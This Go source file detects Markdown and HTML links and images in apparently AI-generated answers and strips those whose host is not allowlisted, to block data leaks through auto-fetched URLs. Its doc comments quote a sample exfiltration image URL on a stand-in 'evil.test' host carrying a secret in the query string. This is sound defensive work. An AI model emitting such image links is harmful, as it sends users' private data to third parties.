package sanitize

import (
	"cmp"
	"errors"
	"html"
	"net/netip"
	"net/url"
	"slices"
	"strings"

	"golang.org/x/net/idna"
)

// Link is a Markdown link or image, an autolink, a reference definition or
// an HTML <img> tag found by [FindLinks]. All offsets are byte offsets into
// the text, on ASCII bytes of the syntax.
type Link struct {
	// Start and End delimit the whole construct: "[text](url)",
	// "![alt](url "title")", "<https://…>", a "[label]: url" line with its
	// line break, or "<img …>".
	Start, End int
	// TextStart and TextEnd delimit what a reader sees: the link text, the
	// alt text, the URL of an autolink. They are both Start for a
	// reference definition and an <img> tag.
	TextStart, TextEnd int
	// Image reports a construct a renderer fetches without a click:
	// "![alt](url)" and <img>.
	Image bool
	// Definition reports a reference definition "[label]: url", which
	// gives the URL of "[text][label]" and "![alt][label]" elsewhere.
	Definition bool
	// URL is the destination as written, without its angle brackets.
	URL string
	// Host is the destination's host, lower case, IDNA (punycode) form,
	// without port or trailing dot; an IP address in its canonical form.
	// It is "" when the URL is relative, has no host, has user
	// information ("https://a@b/"), or its scheme is not http or https.
	Host string
	// Relative reports a URL without scheme and host ("docs/a.png",
	// "/x"), which a renderer resolves against the page's own address.
	Relative bool
}

type linkStatus int

const (
	linkNone linkStatus = iota
	linkOK
	linkIncomplete // the text ends before the construct does
)

// linkScanner is one left-to-right pass over a text. With code set it
// follows CommonMark's precedence (backslash escapes, code spans and
// autolinks bind tighter than brackets); without it code spans and HTML are
// transparent, so that a construct hidden by a code span the renderer does
// not see (in a "~~~" fence, say) is still found.
type linkScanner struct {
	text    string
	code    bool
	links   []Link
	pending int
	// imgEnd marks, a bit a position, where imgTag's attribute loop stood
	// in a parse that found no end to its tag: what the loop does from a
	// position depends on nothing else, so a later tag whose parse comes
	// to one of them has no end either, and "<img <img <img …" is read
	// once, not once a tag. Nil until a parse fails; tops is imgTag's
	// scratch list of the positions of one parse.
	imgEnd []uint64
	tops   []int
}

type opener struct {
	pos   int
	image bool
}

func (s *linkScanner) markPending(i int) {
	if s.pending < 0 || i < s.pending {
		s.pending = i
	}
}

func (s *linkScanner) add(l Link) {
	l.Host, l.Relative = destHost(l.URL)
	s.links = append(s.links, l)
}

func (s *linkScanner) run() {
	text := s.text
	n := len(text)
	var stack []opener
	lineStart := true
	for i := 0; i < n; {
		if lineStart {
			lineStart = false
			l, st := s.definition(i)
			switch st {
			case linkOK:
				s.add(l)
				i = l.End
				lineStart = true
				continue
			case linkIncomplete:
				s.markPending(i)
			}
		}
		switch text[i] {
		case '\\':
			if i+1 < n && isASCIIPunct(text[i+1]) {
				i += 2
				continue
			}
		case '\n':
			i++
			lineStart = true
			if blankLine(text, i) {
				stack = stack[:0]
			}
			continue
		case '`':
			if s.code {
				m := runOf(text, i, '`') - i
				if e := codeSpanEnd(text, i+m, m); e > 0 {
					i = e
				} else {
					i += m
				}
				continue
			}
		case '<':
			l, st := s.angle(i)
			switch st {
			case linkOK:
				s.add(l)
				if s.code {
					i = l.End
					continue
				}
			case linkIncomplete:
				s.markPending(i)
			}
		case '!':
			if i+1 < n && text[i+1] == '[' {
				stack = append(stack, opener{pos: i, image: true})
				i += 2
				continue
			}
			if i+1 == n {
				s.markPending(i)
			}
		case '[':
			stack = append(stack, opener{pos: i})
		case ']':
			if len(stack) == 0 {
				break
			}
			op := stack[len(stack)-1]
			stack = stack[:len(stack)-1]
			l, st := s.inline(op, i)
			switch st {
			case linkOK:
				s.add(l)
				i = l.End
				continue
			case linkIncomplete:
				s.markPending(op.pos)
			}
		}
		i++
	}
	for _, op := range stack {
		s.markPending(op.pos)
	}
}

func isASCIIPunct(c byte) bool {
	return c >= '!' && c <= '/' || c >= ':' && c <= '@' || c >= '[' && c <= '`' || c >= '{' && c <= '~'
}

func runOf(text string, i int, c byte) int {
	for i < len(text) && text[i] == c {
		i++
	}
	return i
}

// blankLine reports whether the line at i holds only spaces and tabs.
func blankLine(text string, i int) bool {
	for i < len(text) && (text[i] == ' ' || text[i] == '\t' || text[i] == '\r') {
		i++
	}
	return i < len(text) && text[i] == '\n'
}

// codeSpanEnd returns the end of the backtick run of exactly m closing a
// code span whose content starts at i, or 0: none before a blank line.
func codeSpanEnd(text string, i, m int) int {
	for i < len(text) {
		c := text[i]
		if c == '\n' && blankLine(text, i+1) {
			return 0
		}
		if c != '`' {
			i++
			continue
		}
		e := runOf(text, i, '`')
		if e-i == m {
			return e
		}
		i = e
	}
	return 0
}

// skipSpace skips spaces and tabs and at most one line break; it reports
// false at a blank line.
func skipSpace(text string, i int) (int, bool) {
	nl := false
	for i < len(text) {
		switch text[i] {
		case ' ', '\t', '\r':
		case '\n':
			if nl || blankLine(text, i+1) {
				return i, false
			}
			nl = true
		default:
			return i, true
		}
		i++
	}
	return i, true
}

// inline parses "(destination "title")" after the ']' at close.
func (s *linkScanner) inline(op opener, close int) (Link, linkStatus) {
	text := s.text
	n := len(text)
	j := close + 1
	if j >= n {
		return Link{}, linkIncomplete
	}
	if text[j] != '(' {
		return Link{}, linkNone
	}
	j, ok := skipSpace(text, j+1)
	if !ok {
		return Link{}, linkNone
	}
	if j >= n {
		return Link{}, linkIncomplete
	}
	var dest string
	if text[j] == '<' {
		k := j + 1
		for ; ; k++ {
			if k >= n {
				return Link{}, linkIncomplete
			}
			c := text[k]
			if c == '\\' && k+1 < n {
				k++
				continue
			}
			if c == '\n' || c == '<' {
				return Link{}, linkNone
			}
			if c == '>' {
				break
			}
		}
		dest = text[j+1 : k]
		j = k + 1
	} else {
		depth := 0
		k := j
		for ; ; k++ {
			if k >= n {
				return Link{}, linkIncomplete
			}
			c := text[k]
			if c == '\\' && k+1 < n && isASCIIPunct(text[k+1]) {
				k++
				continue
			}
			if c <= ' ' || c == 0x7f {
				break
			}
			if c == '(' {
				if depth++; depth > 32 {
					return Link{}, linkNone
				}
			}
			if c == ')' {
				if depth == 0 {
					break
				}
				depth--
			}
		}
		dest = text[j:k]
		j = k
	}
	destEnd := j
	if j, ok = skipSpace(text, j); !ok {
		return Link{}, linkNone
	}
	if j >= n {
		return Link{}, linkIncomplete
	}
	if c := text[j]; j > destEnd && (c == '"' || c == '\'' || c == '(') {
		closer := c
		if c == '(' {
			closer = ')'
		}
		k := j + 1
		for ; ; k++ {
			if k >= n {
				return Link{}, linkIncomplete
			}
			c := text[k]
			if c == '\\' && k+1 < n {
				k++
				continue
			}
			if c == '\n' && blankLine(text, k+1) {
				return Link{}, linkNone
			}
			if c == closer {
				break
			}
		}
		if j, ok = skipSpace(text, k+1); !ok {
			return Link{}, linkNone
		}
		if j >= n {
			return Link{}, linkIncomplete
		}
	}
	if text[j] != ')' {
		return Link{}, linkNone
	}
	ts := op.pos + 1
	if op.image {
		ts++
	}
	return Link{Start: op.pos, End: j + 1, TextStart: ts, TextEnd: close, Image: op.image, URL: dest}, linkOK
}

// definition parses a reference definition "[label]: url" on the line
// starting at i, after spaces, tabs and block-quote markers.
func (s *linkScanner) definition(i int) (Link, linkStatus) {
	text := s.text
	n := len(text)
	j := i
	for j < n && j-i < 16 && (text[j] == ' ' || text[j] == '\t' || text[j] == '>') {
		j++
	}
	if j >= n || text[j] != '[' {
		return Link{}, linkNone
	}
	k := j + 1
	for ; ; k++ {
		if k >= n {
			return Link{}, linkIncomplete
		}
		c := text[k]
		if c == '\\' && k+1 < n {
			k++
			continue
		}
		if c == '[' || k-j > 1000 || c == '\n' && blankLine(text, k+1) {
			return Link{}, linkNone
		}
		if c == ']' {
			break
		}
	}
	if k+1 >= n {
		return Link{}, linkIncomplete
	}
	if text[k+1] != ':' || k == j+1 {
		return Link{}, linkNone
	}
	d, ok := skipSpace(text, k+2)
	if !ok {
		return Link{}, linkNone
	}
	if d >= n {
		return Link{}, linkIncomplete
	}
	var dest string
	e := d
	if text[d] == '<' {
		e = strings.IndexAny(text[d+1:], ">\n")
		if e < 0 {
			return Link{}, linkIncomplete
		}
		e += d + 1
		if text[e] != '>' {
			return Link{}, linkNone
		}
		dest = text[d+1 : e]
		e++
	} else {
		for e < n && text[e] > ' ' && text[e] != 0x7f {
			e++
		}
		if e >= n {
			return Link{}, linkIncomplete
		}
		dest = text[d:e]
	}
	end := strings.IndexByte(text[e:], '\n')
	if end < 0 {
		end = n
	} else {
		end += e + 1
	}
	return Link{Start: i, End: end, TextStart: i, TextEnd: i, Definition: true, URL: dest}, linkOK
}

// angle parses an autolink "<scheme:…>" or an HTML <img> tag at the '<'
// at i.
func (s *linkScanner) angle(i int) (Link, linkStatus) {
	text := s.text
	n := len(text)
	j := i + 1
	// <img
	const tag = "img"
	k := 0
	for k < len(tag) && j+k < n && text[j+k]|0x20 == tag[k] {
		k++
	}
	if k == len(tag) || j+k == n {
		if j+k == n {
			return Link{}, linkIncomplete
		}
		return s.imgTag(i, j+k)
	}
	// <scheme:…>
	k = j
	for k < n && k-j < 33 && (isAlnum(text[k]) || k > j && (text[k] == '+' || text[k] == '.' || text[k] == '-')) {
		k++
	}
	if k >= n {
		return Link{}, linkIncomplete
	}
	if k-j < 2 || text[k] != ':' || !(text[j]|0x20 >= 'a' && text[j]|0x20 <= 'z') {
		return Link{}, linkNone
	}
	for k++; ; k++ {
		if k >= n {
			return Link{}, linkIncomplete
		}
		c := text[k]
		if c == '>' {
			break
		}
		if c <= ' ' || c == '<' || c == 0x7f {
			return Link{}, linkNone
		}
	}
	return Link{Start: i, End: k + 1, TextStart: i + 1, TextEnd: k, URL: text[i+1 : k]}, linkOK
}

// imgTag parses the rest of an <img tag from j, just after "<img".
func (s *linkScanner) imgTag(i, j int) (Link, linkStatus) {
	text := s.text
	n := len(text)
	if c := text[j]; !(c == ' ' || c == '\t' || c == '\n' || c == '\r' || c == '/' || c == '>') {
		return Link{}, linkNone
	}
	src, srcset := "", false
	s.tops = s.tops[:0]
	for j < n {
		if s.imgEnd != nil && s.imgEnd[j>>6]&(1<<(j&63)) != 0 {
			break // a parse from here found no end
		}
		s.tops = append(s.tops, j)
		for j < n && (text[j] == ' ' || text[j] == '\t' || text[j] == '\n' || text[j] == '\r' || text[j] == '/') {
			j++
		}
		if j >= n {
			break
		}
		if text[j] == '>' {
			l := Link{Start: i, End: j + 1, TextStart: i, TextEnd: i, Image: true, URL: src}
			if srcset {
				l.URL = ""
			}
			return l, linkOK
		}
		a := j
		for j < n && !strings.ContainsRune(" \t\n\r/>=", rune(text[j])) {
			j++
		}
		name := strings.ToLower(text[a:j])
		for j < n && (text[j] == ' ' || text[j] == '\t' || text[j] == '\n' || text[j] == '\r') {
			j++
		}
		var val string
		if j < n && text[j] == '=' {
			j++
			for j < n && (text[j] == ' ' || text[j] == '\t' || text[j] == '\n' || text[j] == '\r') {
				j++
			}
			if j < n && (text[j] == '"' || text[j] == '\'') {
				q := strings.IndexByte(text[j+1:], text[j])
				if q < 0 {
					return s.noImgEnd()
				}
				val = text[j+1 : j+1+q]
				j += q + 2
			} else {
				v := j
				for j < n && !strings.ContainsRune(" \t\n\r>", rune(text[j])) {
					j++
				}
				val = text[v:j]
			}
		}
		switch name {
		case "src":
			if src == "" {
				src = val
			}
		case "srcset", "lowsrc", "dynsrc", "longdesc", "usemap":
			srcset = true
		}
		if j == a {
			j++ // a stray '=' or quote
		}
	}
	return s.noImgEnd()
}

// noImgEnd records that the positions of the current imgTag parse lead to
// no end of the tag, and returns imgTag's answer for that.
func (s *linkScanner) noImgEnd() (Link, linkStatus) {
	if s.imgEnd == nil {
		s.imgEnd = make([]uint64, len(s.text)/64+1)
	}
	for _, j := range s.tops {
		s.imgEnd[j>>6] |= 1 << (j & 63)
	}
	return Link{}, linkIncomplete
}

// destHost returns the normalised host of a link destination, following
// what browsers do: entities are decoded, tabs and line breaks dropped,
// '\' read as '/', any number of slashes after "http:" accepted.
func destHost(dest string) (host string, relative bool) {
	if strings.IndexByte(dest, '&') >= 0 {
		dest = html.UnescapeString(dest)
	}
	dest = strings.Map(func(r rune) rune {
		switch r {
		case '\t', '\n', '\r':
			return -1
		case '\\':
			return '/'
		}
		return r
	}, dest)
	dest = strings.TrimFunc(dest, func(r rune) bool { return r <= ' ' })
	i := 0
	for i < len(dest) && (isAlnum(dest[i]) || i > 0 && (dest[i] == '+' || dest[i] == '-' || dest[i] == '.')) {
		i++
	}
	var rest string
	switch {
	case i > 0 && i < len(dest) && dest[i] == ':' && !(dest[0] >= '0' && dest[0] <= '9'):
		scheme := strings.ToLower(dest[:i])
		if scheme != "http" && scheme != "https" {
			return "", false
		}
		rest = strings.TrimLeft(dest[i+1:], "/")
	case strings.HasPrefix(dest, "//"):
		rest = strings.TrimLeft(dest, "/")
	default:
		return "", true
	}
	if e := strings.IndexAny(rest, "/?#"); e >= 0 {
		rest = rest[:e]
	}
	if strings.IndexByte(rest, '@') >= 0 {
		return "", false
	}
	if strings.HasPrefix(rest, "[") {
		e := strings.IndexByte(rest, ']')
		if e < 0 {
			return "", false
		}
		a, err := netip.ParseAddr(rest[1:e])
		if err != nil {
			return "", false
		}
		return a.WithZone("").String(), false
	}
	if c := strings.LastIndexByte(rest, ':'); c >= 0 {
		rest = rest[:c]
	}
	if strings.IndexByte(rest, '%') >= 0 {
		u, err := url.PathUnescape(rest)
		if err != nil {
			return "", false
		}
		rest = u
	}
	h, _ := normalizeHost(rest)
	return h, false
}

// normalizeHost returns host in lower-case IDNA form without a trailing
// dot, or an IP address in canonical form, and false if it is not a valid
// host name.
func normalizeHost(host string) (string, bool) {
	host = strings.TrimSuffix(host, ".")
	if host == "" {
		return "", false
	}
	if a, err := netip.ParseAddr(strings.Trim(host, "[]")); err == nil {
		return a.WithZone("").String(), true
	}
	plain := true
	for i := 0; i < len(host); i++ {
		if c := host[i]; !(c >= 'a' && c <= 'z' || c >= '0' && c <= '9' || c == '-' || c == '.') {
			plain = false
			break
		}
	}
	if plain && !strings.Contains(host, "..") && !strings.HasPrefix(host, ".") && !strings.Contains(host, "xn--") {
		return host, true
	}
	h, err := idna.Lookup.ToASCII(host)
	if err != nil || h == "" {
		return "", false
	}
	return strings.TrimSuffix(h, "."), true
}

// FindLinks returns the Markdown inline links and images ("[t](url)",
// "![alt](url)"), reference definitions ("[label]: url" at the start of a
// line), autolinks ("<https://…>") and HTML <img> tags in text, ordered by
// Start, then longest first. Links nested in a link's text are returned
// too.
//
// It reads text twice, once with CommonMark's precedence (code spans and
// autolinks bind tighter than brackets) and once without, and returns
// what either reading finds, so that a renderer that disagrees with one
// reading about a code span still has its images found; links may then
// overlap. Bare URLs ("see https://…") are not returned: renderers do not
// fetch them and the reader sees the whole address; a client that unfurls
// them (Slack, Teams) needs its own rule.
func FindLinks(text string) []Link {
	if !strings.ContainsAny(text, "[<") {
		return nil
	}
	a := linkScanner{text: text, pending: -1}
	a.run()
	b := linkScanner{text: text, code: true, pending: -1}
	b.run()
	out := append(a.links, b.links...)
	slices.SortFunc(out, func(x, y Link) int {
		if c := cmp.Compare(x.Start, y.Start); c != 0 {
			return c
		}
		return cmp.Compare(y.End, x.End)
	})
	return slices.CompactFunc(out, func(x, y Link) bool {
		return x.Start == y.Start && x.End == y.End && x.Image == y.Image
	})
}

// PendingLink returns the offset of the earliest construct at the end of
// text that the next chunk of a stream could complete into a link or
// image ("![alt](https://ho", "[text]", "<img src=", "[x]: https://a",
// a trailing "!"), or -1. A streaming guard holds text from that offset
// back until PendingLink no longer reports it, so that RemoveLinks sees
// the whole construct: the host of an unfinished URL can still change
// ("https://docs.example.com" + ".evil.test").
//
// An unmatched '[' is pending until a blank line ends its paragraph; a
// guard that cannot hold that long should drop the held text rather than
// release it.
func PendingLink(text string) int {
	if !strings.ContainsAny(text, "[<!") {
		return -1
	}
	p := -1
	for _, code := range []bool{false, true} {
		s := linkScanner{text: text, code: code, pending: -1}
		s.run()
		if s.pending >= 0 && (p < 0 || s.pending < p) {
			p = s.pending
		}
	}
	return p
}

// RemoveLinks removes from text the images whose host allowHost refuses,
// with their alt text, and replaces the links whose host it refuses by
// their text, so that an answer cannot send data to a third party through
// a URL the reader's client fetches or the reader clicks on unawares. A
// refused reference definition is removed with its line, which leaves
// "![alt][label]" unresolved; a refused autolink loses its angle brackets.
// It reports each removal as a finding of kind [KindLeak] and type
// "exfil_image" or "exfil_link", with offsets into text.
//
//	in:  See ![chart](https://evil.test/p.png?q=SECRET) and [the docs](https://docs.example.com/a).
//	out: See  and [the docs](https://docs.example.com/a).
//
// Images must name an allowed http or https host: relative images, data:
// URLs and URLs with user information are removed. Relative links are kept
// (they stay on the page's own site); links with another scheme
// (javascript:, mailto:) are replaced by their text. A nil allowHost
// allows no host. Removal can make new constructs out of what is left, so
// RemoveLinks repeats until nothing is found; the output holds no image
// that [FindLinks] reports with a refused host.
func RemoveLinks(text string, allowHost func(host string) bool) (string, []Finding) {
	if allowHost == nil {
		allowHost = func(string) bool { return false }
	}
	var findings []Finding
	out := text
	for round := 0; round < 4; round++ {
		links := FindLinks(out)
		var cut [][2]int
		for _, l := range links {
			allowed := l.Host != "" && allowHost(l.Host)
			if l.Image && !allowed {
				cut = append(cut, [2]int{l.Start, l.End})
				if round == 0 {
					findings = append(findings, Finding{Kind: KindLeak, Type: TypeExfilImage, Start: l.Start, End: l.End})
				}
			} else if !l.Image && !l.Relative && !allowed {
				cut = append(cut, [2]int{l.Start, l.TextStart}, [2]int{l.TextEnd, l.End})
				if round == 0 {
					findings = append(findings, Finding{Kind: KindLeak, Type: TypeExfilLink, Start: l.Start, End: l.End})
				}
			}
		}
		if len(cut) == 0 {
			return out, findings
		}
		out = cutRanges(out, cut)
	}
	// Still finding constructs after four rounds: make images impossible.
	out = strings.ReplaceAll(out, "![", "[")
	for {
		i := indexFold(out, "<img")
		if i < 0 {
			break
		}
		out = out[:i] + "&lt;" + out[i+1:]
	}
	return out, findings
}

// cutRanges returns text without the byte ranges in cut.
func cutRanges(text string, cut [][2]int) string {
	slices.SortFunc(cut, func(a, b [2]int) int { return cmp.Compare(a[0], b[0]) })
	var b strings.Builder
	b.Grow(len(text))
	pos := 0
	for _, c := range cut {
		if c[1] <= pos {
			continue
		}
		if c[0] > pos {
			b.WriteString(text[pos:c[0]])
		}
		pos = c[1]
	}
	b.WriteString(text[pos:])
	return b.String()
}

// HostAllowlist returns a function for [RemoveLinks] that allows the
// listed hosts. An entry is a host name ("docs.example.com"), matched
// exactly, or a pattern "*.example.com", which matches every subdomain of
// example.com but not example.com itself; list both when both are wanted.
// Matching ignores case and trailing dots, and compares IDNA (punycode)
// forms, so "bücher.example" and "xn--bcher-kva.example" are one host. An
// IP address is allowed only when listed exactly; a pattern never matches
// one.
//
// Entries that are not valid host names or patterns ("", "*", "*.com"
// with a single label, "https://x", "a/b") match nothing; use
// [ParseHostAllowlist] to have them reported. Allowing every host is not
// an allowlist: pass func(string) bool { return true } and say why.
func HostAllowlist(hosts ...string) func(host string) bool {
	f, _ := ParseHostAllowlist(hosts...)
	return f
}

// ParseHostAllowlist is [HostAllowlist] that also returns an error listing
// the entries it refuses.
func ParseHostAllowlist(hosts ...string) (func(host string) bool, error) {
	exact := map[string]bool{}
	var suffixes []string
	var errs []error
	for _, h := range hosts {
		pat := strings.TrimSpace(h)
		wild := strings.HasPrefix(pat, "*.")
		if wild {
			pat = pat[2:]
		}
		n, ok := normalizeHost(pat)
		if ok && strings.ContainsAny(pat, "/:@?#*") && !isIP(n) {
			ok = false
		}
		if ok && wild && (isIP(n) || !strings.Contains(n, ".")) {
			ok = false
		}
		if !ok {
			errs = append(errs, errors.New("sanitize: host allowlist: invalid entry "+quoteShort(h)))
			continue
		}
		if wild {
			suffixes = append(suffixes, "."+n)
		} else {
			exact[n] = true
		}
	}
	return func(host string) bool {
		n, ok := normalizeHost(host)
		if !ok {
			return false
		}
		if exact[n] {
			return true
		}
		if isIP(n) {
			return false
		}
		for _, s := range suffixes {
			if strings.HasSuffix(n, s) {
				return true
			}
		}
		return false
	}, errors.Join(errs...)
}

func isIP(h string) bool {
	_, err := netip.ParseAddr(h)
	return err == nil
}

// quoteShort quotes s, cut to 64 bytes.
func quoteShort(s string) string {
	if len(s) > 64 {
		s = strings.ToValidUTF8(s[:64], "") + "…"
	}
	return "\"" + strings.ReplaceAll(s, "\"", "\\\"") + "\""
}
